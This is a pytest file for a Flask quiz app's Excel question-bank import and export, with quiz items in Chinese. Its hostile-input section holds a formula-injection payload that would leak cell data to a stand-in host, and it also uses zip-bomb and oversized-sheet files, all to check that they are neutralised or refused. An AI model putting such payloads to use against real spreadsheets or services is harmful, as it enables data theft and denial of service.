"""Question banks in and out of the usual Excel 题库 template."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
import yaml
from flask import Flask
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from learning_app.errors import SheetRejected
from learning_app.extensions import db
from learning_app.models import AuditEvent
from learning_app.quiz.excel import (
    COLUMNS,
    bank_yaml,
    read_bank_sheet,
    write_bank_sheet,
)
from learning_app.quiz.types import validate_question
from tests.app import hostile_helpers as hostile

ROOT = Path(__file__).resolve().parents[2]


def sheet(tmp_path: Path, rows: list[list[object]], header: list[str] = COLUMNS) -> Path:
    workbook = Workbook()
    workbook.active.append(header)
    for row in rows:
        workbook.active.append(row)
    path = tmp_path / "bank.xlsx"
    workbook.save(path)
    return path


def row(**cells: object) -> list[object]:
    return [cells.get(column, "") for column in COLUMNS]


def test_every_type_is_read_into_contract_4(tmp_path: Path) -> None:
    path = sheet(tmp_path, [
        row(题号="pb-001", 题型="单选", 题干="“两不愁”是指？", 选项A="不愁吃、不愁穿",
            选项B="不愁住、不愁行", 答案="a", 解析="见退出标准", 标签="退出标准、两不愁三保障"),
        row(题型="多选", 题干="“三保障”包括？", 选项A="义务教育", 选项B="基本医疗",
            选项C="住房安全", 选项D="以上都不是", 答案="A、B、C", 不打乱="是"),
        row(题型="判断", 题干="党员每年集中学习培训一般不少于32学时。", 答案="对"),
        row(题型="填空", 题干="1学时按（　）分钟计算。", 答案="45|四十五"),
        row(),  # empty rows are skipped
        row(题型="填空", 题干="党员每年不少于（　）学时。", 答案=32),
    ])
    bank = read_bank_sheet(path, "poverty-basics", "脱贫攻坚基础知识")
    questions = bank["questions"]
    assert [q["id"] for q in questions] == ["pb-001", "poverty-basics-002", "poverty-basics-003",
                                            "poverty-basics-004", "poverty-basics-005"]
    assert questions[0]["answer"] == "A" and questions[0]["tags"] == ["退出标准", "两不愁三保障"]
    assert questions[1]["answer"] == ["A", "B", "C"] and questions[1]["shuffle"] is False
    assert questions[2]["answer"] is True
    assert questions[3]["answer"] == ["45", "四十五"]
    assert questions[4]["answer"] == ["32"]  # Excel's 32.0 read as 32
    assert all(validate_question(q) == [] for q in questions)
    assert yaml.safe_load(bank_yaml(bank)) == bank


@pytest.mark.parametrize(("cells", "expected"), [
    (dict(题型="问答", 题干="x", 答案="A"), "第2行 题型：单选、多选、判断或填空"),
    (dict(题型="单选", 题干="x", 选项A="甲", 选项B="乙", 答案="C"), "第2行 答案：选项A、B中的一个"),
    (dict(题型="多选", 题干="x", 选项A="甲", 选项B="乙", 答案="A"),
     "第2行 答案：至少两个不重复的选项字母"),
    (dict(题型="判断", 题干="x", 答案="也许"), "第2行 答案：正确或错误"),
    (dict(题型="填空", 题干="x", 答案=""), "第2行 答案：至少一个可接受的答案"),
    (dict(题型="判断", 题干="x", 选项A="甲", 答案="对"), "第2行 选项A：判断题不填选项"),
    (dict(题型="单选", 题干="", 选项A="甲", 选项B="乙", 答案="A"), "第2行 题干："),
])
def test_row_errors_name_row_and_column(tmp_path: Path, cells: dict, expected: str) -> None:
    with pytest.raises(SheetRejected) as error:
        read_bank_sheet(sheet(tmp_path, [row(**cells)]), "b", "t")
    assert str(error.value.problems[0]).startswith(expected), error.value.problems


def test_duplicate_ids_and_missing_columns(tmp_path: Path) -> None:
    with pytest.raises(SheetRejected) as error:
        read_bank_sheet(sheet(tmp_path, [row(题号="x-1", 题型="判断", 题干="a", 答案="对"),
                                         row(题号="x-1", 题型="判断", 题干="b", 答案="错")]),
                        "b", "t")
    assert [str(p) for p in error.value.problems] == ["第3行 题号：与第2行重复"]
    with pytest.raises(SheetRejected) as error:
        read_bank_sheet(sheet(tmp_path, [["x"]], header=["题号", "题干"]), "b", "t")
    assert sorted(str(p) for p in error.value.problems) == sorted(
        ["第1行 题型：缺少这一列", "第1行 答案：缺少这一列"])


def test_a_real_bank_round_trips_through_excel(tmp_path: Path) -> None:
    bank = yaml.safe_load((ROOT / "quizzes/banks/party-life.yaml").read_text(encoding="utf-8"))
    path = tmp_path / "party-life.xlsx"
    write_bank_sheet(bank, path)
    again = read_bank_sheet(path, bank["bank"], bank["title"])
    for before, after in zip(bank["questions"], again["questions"], strict=True):
        expected = dict(before)
        if expected["type"] == "blank":
            expected["answer"] = [str(a) for a in expected["answer"]]
        if expected["type"] == "multiple":
            expected["answer"] = sorted(expected["answer"])
        if expected.get("shuffle") is True:
            del expected["shuffle"]
        assert after == expected


def test_import_and_export_commands(app, tmp_path: Path) -> None:
    runner = app.test_cli_runner()
    good = sheet(tmp_path, [row(题型="判断", 题干="三会一课包括党课。", 答案="正确")])
    target = tmp_path / "out" / "demo-bank.yaml"
    result = runner.invoke(args=["import-bank", str(good), "--bank", "demo-bank",
                                 "--title", "演示题库", "-o", str(target)])
    assert result.exit_code == 0, result.output
    assert yaml.safe_load(target.read_text(encoding="utf-8"))["questions"][0]["answer"] is True
    bad = sheet(tmp_path, [row(题型="判断", 题干="x", 答案="也许")])
    refused = tmp_path / "refused.yaml"
    result = runner.invoke(args=["import-bank", str(bad), "--bank", "b", "--title", "t",
                                 "-o", str(refused)])
    assert result.exit_code != 0 and "第2行 答案：正确或错误" in result.output
    assert not refused.exists()
    exported = tmp_path / "again.xlsx"
    result = runner.invoke(args=["export-bank", str(target), "-o", str(exported)])
    assert result.exit_code == 0 and exported.stat().st_size > 0


# ---------------------------------------------------------- hostile cells and files

def test_a_formula_like_stem_is_exported_as_text_and_reads_back(tmp_path: Path) -> None:
    stem = '=HYPERLINK("http://evil.example/?q="&B2,"点此查看答案")'
    bank = {"bank": "evil", "title": "党史/党建[测试]:题库?", "questions": [
        {"id": "evil-001", "type": "judge", "stem": stem, "answer": True},
        {"id": "evil-002", "type": "judge", "stem": "@SUM(1)", "answer": False,
         "explanation": "+1+1 与 -2+3", "source": "青川\x07县\x1b志"},
    ]}
    path = tmp_path / "evil.xlsx"
    write_bank_sheet(bank, path)  # neither the title's characters nor \x07 break it
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + stem in texts and "'@SUM(1)" in texts and "'+1+1 与 -2+3" in texts
    assert "青川县志" in texts
    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
    assert sheet.title == "党史_党建_测试__题库_"
    again = read_bank_sheet(path, "evil", "t")
    assert [q["stem"] for q in again["questions"]] == [stem, "@SUM(1)"]
    assert again["questions"][1]["explanation"] == "+1+1 与 -2+3"


def test_a_control_character_in_a_bank_sheet_is_refused(tmp_path: Path) -> None:
    path = sheet(tmp_path, [row(题型="判断", 题干="正常", 答案="对"),
                            row(题型="判断", 题干="坏_x0007_题", 答案="对")])
    with pytest.raises(SheetRejected) as error:
        read_bank_sheet(path, "b", "t")
    assert [str(p) for p in error.value.problems] == [
        "第3行 题干：含有看不见的控制字符，请删去后重新导入"]


def test_a_bomb_posing_as_a_bank_is_refused_in_seconds(tmp_path: Path) -> None:
    for path in (hostile.zip_bomb(tmp_path / "bomb.xlsx", unpacked=300 * 1024 * 1024),
                 hostile.blank_rows(tmp_path / "rows.xlsx", count=100_000)):
        start = time.perf_counter()
        with pytest.raises(SheetRejected) as error:
            read_bank_sheet(path, "b", "t")
        assert time.perf_counter() - start < 5
        assert error.value.problems[0].row == 1
    assert "20,000行" in str(error.value.problems[0])


def test_bank_imports_are_audited(app: Flask, tmp_path: Path) -> None:
    runner = app.test_cli_runner()
    good = sheet(tmp_path, [row(题型="判断", 题干="三会一课包括党课。", 答案="正确")])
    target = tmp_path / "demo.yaml"
    result = runner.invoke(args=["import-bank", str(good), "--bank", "demo", "--title",
                                 "演示题库", "-o", str(target)])
    assert result.exit_code == 0, result.output
    bad = hostile.not_a_zip(tmp_path / "<b>坏\x07.xlsx")
    result = runner.invoke(args=["import-bank", str(bad), "--bank", "demo2", "--title", "t",
                                 "-o", str(tmp_path / "no.yaml")])
    assert result.exit_code != 0
    with app.app_context():
        events = db.session.scalars(select(AuditEvent).where(
            AuditEvent.action == "bank_import").order_by(AuditEvent.id)).all()
        assert [(e.actor, e.target) for e in events] == [("命令行", "demo"), ("命令行", "demo2")]
        assert events[0].detail.startswith("demo「演示题库」：1题，来自 bank.xlsx")
        assert events[0].after["questions"] == 1 and events[0].after["use"] == "exam"
        assert events[1].detail.startswith("未导入：_b_坏_.xlsx，1处问题；第1行 文件：")
